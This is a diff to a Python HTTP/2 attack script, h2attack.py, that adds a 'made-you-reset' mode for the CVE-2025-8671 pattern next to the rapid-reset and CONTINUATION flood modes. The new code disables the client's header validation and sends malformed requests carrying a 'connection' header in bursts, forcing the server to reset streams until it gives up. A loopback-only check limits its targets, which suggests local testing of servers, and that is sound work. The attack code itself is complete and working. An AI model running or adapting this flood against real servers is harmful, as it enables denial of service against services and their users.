@@ -5,6 +5,9 @@
       CVE-2023-44487: open a stream (HEADERS with END_STREAM) and reset it at once
       (RST_STREAM CANCEL), in a loop, N times or until the server ends the connection;
       with --pace-ms, one stream every MS ms.
+  h2attack.py made-you-reset HOST PORT [--streams N] [--seconds S]
+      CVE-2025-8671 pattern: malformed requests (a connection-specific header) that the
+      server must reset itself, N times or until the server ends the connection.
   h2attack.py continuation HOST PORT [--frames N] [--seconds S]
       CVE-2024-27316: one HEADERS frame without END_HEADERS, then CONTINUATION frames
       that never end the header block, N frames or until the server ends the connection.
@@ -78,13 +81,18 @@ class Peer:
                 self.goaway = int.from_bytes(payload[4:8], "big")
 
 
-def connect(host, port):
+def connect(host, port, validate=True):
     if not ipaddress.ip_address(socket.gethostbyname(host)).is_loopback:
         sys.exit("h2attack.py only aims at 127.0.0.0/8")
     sock = socket.create_connection((host, port), timeout=5)
     sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
     conn = h2.connection.H2Connection(
-        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+        config=h2.config.H2Configuration(
+            client_side=True,
+            header_encoding="utf-8",
+            validate_outbound_headers=validate,
+            normalize_outbound_headers=validate,
+        )
     )
     conn.initiate_connection()
     sock.sendall(conn.data_to_send())
@@ -139,6 +147,31 @@ def rapid_reset(host, port, streams, seconds, pace_ms):
         start,
         {"attack": "rapid-reset", "streams_sent": sent, "pace_ms": pace_ms},
     )
+
+
+def made_you_reset(host, port, streams, seconds):
+    """CVE-2025-8671 pattern: each stream is one the server itself must reset (a request
+    with a connection-specific header, malformed in HTTP/2), so the resets are the
+    server's own, not the client's."""
+    sock, conn = connect(host, port, validate=False)
+    peer = Peer(sock)
+    start = time.monotonic()
+    sent = 0
+    bad = headers(host, port) + [("connection", "keep-alive")]
+    while sent < streams and time.monotonic() - start < seconds:
+        if peer.closed or peer.goaway is not None:
+            break
+        try:
+            for _ in range(50):
+                sid = conn.get_next_available_stream_id()
+                conn.send_headers(sid, bad, end_stream=True)
+                sent += 1
+        except h2.exceptions.H2Error:
+            break
+        if not send(sock, peer, conn.data_to_send()):
+            break
+        peer.pump(0.01)
+    return finish(sock, peer, start, {"attack": "made-you-reset", "streams_sent": sent})
 
 
 def continuation(host, port, frames, seconds):
@@ -197,7 +230,7 @@ def finish(sock, peer, start, report):
 
 def main():
     p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
-    p.add_argument("attack", choices=["rapid-reset", "continuation"])
+    p.add_argument("attack", choices=["rapid-reset", "continuation", "made-you-reset"])
     p.add_argument("host")
     p.add_argument("port", type=int)
     p.add_argument("--streams", type=int, default=10000)
@@ -207,6 +240,8 @@ def main():
     a = p.parse_args()
     if a.attack == "rapid-reset":
         report = rapid_reset(a.host, a.port, a.streams, a.seconds, a.pace_ms)
+    elif a.attack == "made-you-reset":
+        report = made_you_reset(a.host, a.port, a.streams, a.seconds)
     else:
         report = continuation(a.host, a.port, a.frames, a.seconds)
     print(json.dumps(report))
